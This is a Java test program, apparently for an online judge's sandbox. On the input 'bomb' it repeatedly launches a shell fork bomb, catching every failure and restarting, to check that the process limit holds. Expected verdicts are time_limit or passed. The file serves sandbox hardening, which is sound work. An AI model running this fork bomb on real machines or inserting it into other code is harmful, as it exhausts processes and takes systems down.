// attack: a fork bomb in shells the Java program spawns (every shell starts more in a loop until the pids limit refuses one), started again and again by the JVM
// tests: bomb
// verdicts: time_limit / passed

import java.util.Scanner;

// include "probe.java.inc"

public class Main {
    public static void main(String[] args) throws Exception {
        String line = new Scanner(System.in).nextLine();
        if (line.equals("bomb")) {
            // The shells end once a fork is refused (dash gives up): the JVM starts them again,
            // whatever a start throws.  A moment first, for the JVM's thread that waits for
            // a shell to start before the bomb takes every pid.
            for (;;) {
                try {
                    Probe.shell("sleep 0.2; bomb() { while :; do bomb & done; }; bomb");
                } catch (Throwable refused) {
                    // and again
                }
            }
        }
        System.out.println(2 * Long.parseLong(line.trim()));
    }
}
